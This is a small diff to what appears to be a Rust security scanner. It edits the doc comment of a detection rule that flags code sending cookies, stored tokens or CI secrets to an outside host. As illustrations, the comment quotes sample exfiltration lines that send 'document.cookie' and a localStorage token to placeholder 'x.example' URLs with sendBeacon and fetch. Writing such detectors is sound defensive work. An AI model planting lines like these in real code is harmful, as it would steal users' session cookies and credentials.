@@ -367,7 +367,7 @@ const BEACON_WINDOW: usize = 3;
 
 /// Sends of cookies, stored tokens, the environment or a CI's secrets to a literal URL of
 /// another host that writing `added` into `path` plants (`kind` `beacon`; rule
-/// `path/planted-exec`, kind `beacon`): a line with a [`SEND_CALLS`] entry and an `http(s)://` URL whose
+/// `path/planted-exec`, kind `beacon`): a line with a `SEND_CALLS` entry and an `http(s)://` URL whose
 /// host is not loopback, with a [`SECRET_SOURCES`] entry on it or within [`BEACON_WINDOW`]
 /// lines (`navigator.sendBeacon('https://x.example/c', JSON.stringify({cookie:
 /// document.cookie}))`, `fetch('https://x.example/i', {body: localStorage.getItem('token')})`,
